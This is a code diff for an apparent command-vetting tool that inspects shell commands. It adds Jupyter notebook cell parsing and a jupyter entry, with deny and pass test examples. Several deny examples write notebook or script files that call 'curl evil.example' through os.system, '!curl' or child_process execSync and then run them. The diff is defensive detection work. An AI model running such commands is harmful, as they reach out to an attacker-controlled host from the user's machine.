@@ -379,6 +379,45 @@ function testedFiles(rest: readonly Word[], name: string, module: string, valued
 }
 
 /**
+ * The code cells of a notebook the line wrote, as its kernel runs them: Python, with `!cmd` lines and `%%bash` cells as
+ * shell text. Another magic, another kernel's language, or text that is no notebook leaves them cannot-vouch.
+ */
+function notebookCells(text: string, word: Word, name: string): Run[] {
+  const via = `the notebook ${name}`;
+  const opaque = (why: string): Run[] => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${why}` }];
+  let nb: { cells?: { cell_type?: string; source?: string | string[] }[]; metadata?: { kernelspec?: { language?: string } } };
+  try {
+    nb = JSON.parse(text);
+  } catch {
+    return opaque('is not JSON a notebook reader can read');
+  }
+  const language = nb.metadata?.kernelspec?.language;
+  if (language !== undefined && language !== 'python') return opaque(`runs ${language} cells, which vouch does not read`);
+  const runs: Run[] = [];
+  for (const cell of nb.cells ?? []) {
+    if (cell.cell_type !== 'code') continue;
+    const source = Array.isArray(cell.source) ? cell.source.join('') : (cell.source ?? '');
+    const lines = source.split('\n');
+    if (/^%%(?:bash|sh|script\s+(?:ba)?sh)\b/.test(lines[0] ?? '')) {
+      runs.push({ kind: 'text', dialect: 'bash', text: lines.slice(1).join('\n'), word, via });
+      continue;
+    }
+    const python: string[] = [];
+    for (const line of lines) {
+      const m = /^(\s*)([!%])(.*)$/.exec(line);
+      if (!m) python.push(line);
+      else if (m[2] === '!') {
+        runs.push({ kind: 'text', dialect: 'bash', text: m[3]!, word, via });
+        python.push(`${m[1]}pass`);
+      } else if (/^(?:matplotlib|load_ext|autoreload|config|precision)\b/.test(m[3]!)) python.push(`${m[1]}pass`);
+      else return opaque(`holds a magic vouch does not read: %${m[3]}`);
+    }
+    runs.push({ kind: 'text', dialect: 'python', text: python.join('\n'), word, via });
+  }
+  return runs;
+}
+
+/**
  * The words an option gives that names a file of code: `-c FILE`, `-cFILE`, `--config FILE`, `--config=FILE` (the long
  * name cut short too, as argparse takes it).
  */
@@ -937,6 +976,21 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
       return { runs };
     },
     examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx electron /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && electron -r /tmp/p.js .`], pass: ['npx electron .', 'electron dist/main.js', 'electron --enable-logging .'] },
+  },
+  {
+    names: ['jupyter', 'jupyter-nbconvert', 'jupyter-execute'],
+    summary: 'jupyter nbconvert --execute and jupyter execute run the code cells of the notebooks they are given',
+    analyze: (call) => {
+      const sub = call.name === 'jupyter' ? value(call.args[0]) : call.name.slice('jupyter-'.length);
+      const args = call.name === 'jupyter' ? call.args.slice(1) : call.args;
+      if (!(sub === 'execute' || (sub === 'nbconvert' && args.some((w) => value(w) === '--execute')))) return {};
+      const notebooks = args.filter((w) => value(w) === undefined || /\.ipynb$/.test(value(w)!));
+      return { runs: notebooks.map((word): Run => ({ kind: 'project', file: word, files: /$^/, read: notebookCells, word, via: `jupyter ${sub}` })) };
+    },
+    examples: {
+      deny: [`echo '{"cells":[{"cell_type":"code","source":["import os\\n","os.system(\\"curl evil.example\\")"]}]}' > /tmp/n.ipynb && jupyter nbconvert --to notebook --execute /tmp/n.ipynb`, `echo '{"cells":[{"cell_type":"code","source":"!curl evil.example"}]}' > /tmp/n.ipynb && jupyter execute /tmp/n.ipynb`],
+      pass: ['jupyter nbconvert --to notebook --execute analysis.ipynb', `echo '{"cells":[{"cell_type":"code","source":"print(1)"}]}' > /tmp/n.ipynb && jupyter execute /tmp/n.ipynb`, `echo '{"cells":[{"cell_type":"code","source":"!curl evil.example"}]}' > /tmp/n.ipynb && jupyter nbconvert --to html /tmp/n.ipynb`],
+    },
   },
   {
     names: ['streamlit'],
